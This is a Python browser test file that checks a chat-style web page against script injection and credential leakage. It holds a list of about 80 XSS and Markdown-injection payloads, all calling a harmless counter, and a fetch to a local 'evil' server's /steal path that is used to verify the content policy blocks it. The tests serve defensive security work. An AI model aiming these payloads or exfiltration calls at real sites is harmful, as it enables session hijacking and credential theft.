"""What models, tools, titles and addresses can say to the real page: nothing of it runs, and nothing leaves."""
# ruff: noqa: E501  a payload stays whole

import http.server
import threading
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.desk import Seat, desk
from tests.journeys.house import House
from tests.journeys.person import Person

pytestmark = pytest.mark.browser

TAGS = [
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script src=data:,hit()></script>", "<script>hit()//",
    "<img src=x onerror=hit()>", "<img src=x onerror='hit()'>", "<img/src=x/onerror=hit()>", "<img src onerror=hit()>",
    "<svg onload=hit()>", "<svg/onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><a href=javascript:hit()>x</a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set onbegin=hit()>", "<svg><foreignObject><img src=x onerror=hit()>",
    "<body onload=hit()>", "<iframe src=javascript:hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit() form=f>x</button>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>", "<details open ontoggle=hit()>", "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video><source onerror=hit()></video>", "<video src=x onerror=hit()>", "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>", "<style>@import 'javascript:hit()'</style>", "<link rel=stylesheet href=javascript:hit()>",
    "<meta http-equiv=refresh content='0;javascript:hit()'>", "<base href=javascript:hit()//>", "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>", "<a href='&#106;avascript:hit()'>x</a>", "<a href='javascript&colon;hit()'>x</a>",
    "<a href=' javascript:hit()'>x</a>", "<a href='data:text/html,<script>hit()</script>'>x</a>", "<a href='vbscript:hit()'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<math href=javascript:hit()>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<template><img src=x onerror=hit()></template>",
    "<p title='\"><img src=x onerror=hit()>'>x</p>", "<b onmouseover=hit()>x</b>", "<b style='x:expression(hit())'>x</b>",
    "<!--><img src=x onerror=hit()>-->", "<![CDATA[><img src=x onerror=hit()>]]>", "<?xml ?><img src=x onerror=hit()>",
    "<xmp><img src=x onerror=hit()></xmp>", "<plaintext><img src=x onerror=hit()>", "<img src=`x` onerror=hit()>",
    "<a id=hit><a id=hit name=x>", "<form id=page><input name=innerHTML>", "<img name=documentElement>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:hit())", "[x](JaVaScRiPt:hit())", "[x](java\tscript:hit())", "[x](javascript&colon;hit())",
    "[x](&#106;avascript:hit())", "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)", "[x](vbscript:hit())",
    "![x](javascript:hit())", "![x](x\"onerror=\"hit())", "![x\"onerror=\"hit()](x)", "[x](<javascript:hit()>)",
    "[x]: javascript:hit()", "<javascript:hit()>", "[x](https://a.example \"onmouseover=hit()\")", "`<img src=x onerror=hit()>`",
    "$\\href{javascript:hit()}{x}$", "$\\url{javascript:hit()}$", "$\\html{<img src=x onerror=hit()>}$", "| <img src=x onerror=hit()> |",
    "[^1]: <img src=x onerror=hit()>",
]  # fmt: skip
PAYLOADS = [*TAGS, *MARKDOWN]

FOUND = """() => [...document.querySelectorAll('*')].flatMap((node) => [
  ...(/^(IFRAME|OBJECT|EMBED|BASE|TEMPLATE|MARQUEE|VIDEO|AUDIO|IMG)$/i.test(node.tagName) ? [node.outerHTML.slice(0, 80)] : []),
  ...(node.tagName === 'SCRIPT' && !node.src ? [node.outerHTML.slice(0, 80)] : []),
  ...[...node.attributes].filter((each) => /^on/i.test(each.name) || /^\\s*(java|vb)script:|^\\s*data:text/i.test(each.value))
    .map((each) => `${node.tagName} ${each.name}=${each.value.slice(0, 60)}`),
])"""


def expect_harmless(seat: Seat) -> None:
    assert seat.page.evaluate("window.hits") == 0
    assert seat.page.evaluate(FOUND) == []
    links = seat.page.locator('a[href^="http"], a[target]').all()
    assert links
    for link in links:
        assert "noopener" in (link.get_attribute("rel") or "")


def test_class_10_nothing_that_is_said_runs_in_the_page(chromium: Browser, house: House, person: Person) -> None:
    """As words, as thoughts, as what a tool was called and printed, as a title, and as a person's own message."""
    assert len(PAYLOADS) >= 60
    with desk(chromium, house) as place:
        place.context.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1 }")
        session = person.begin(title="<img src=x onerror=hit()>")
        lines = [f"!say {payload}" for payload in PAYLOADS]
        lines += [f"!think {payload}" for payload in PAYLOADS[::7]]
        lines += [
            f'!tool {name} {{"x": "y"}} 1 {payload}' for name, payload in zip("abcdefgh", TAGS[::8], strict=False)
        ]
        lines += ["!say over"]
        turn = person.say(session, "\n".join(lines))
        person.wait_for_end(session, turn)
        seat = place.tab(session)
        expect(seat.page.get_by_text("over", exact=True).last).to_be_visible()
        for step in seat.page.locator("summary").all():
            if step.is_visible():
                step.click()
        expect_harmless(seat)
        seat.page.reload()
        expect(seat.page.get_by_text("over", exact=True).last).to_be_visible()
        expect_harmless(seat)


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another server that would like to know the credential."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("access-control-allow-origin", "*")
        self.send_header("access-control-allow-headers", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET  # noqa: N815  so is this

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002  and this
        pass


def test_class_03_no_address_in_the_url_gets_the_credential(chromium: Browser, own_house: House) -> None:
    """The page talks to whoever sent it, whatever its address says."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        evil = f"http://127.0.0.1:{other.server_address[1]}"
        try:
            with desk(chromium, own_house) as place:
                for name in ("server", "api", "base", "gatewayUrl", "host", "ws", "url", "redirect", "next"):
                    seat = place.tab()
                    seat.page.goto(f"{own_house.server.link}/?{name}={evil}#{name}={evil}")
                    expect(seat.page.get_by_role("heading", name="What should be done?")).to_be_visible()
                    seat.page.close()
                seat = place.tab()
                tried = seat.page.evaluate(f"fetch('{evil}/steal').then(() => 'sent', () => 'blocked')")
                assert tried == "blocked", "the content policy lets the page talk to nobody else"
        finally:
            other.shutdown()
            thread.join()
    assert Elsewhere.heard == []
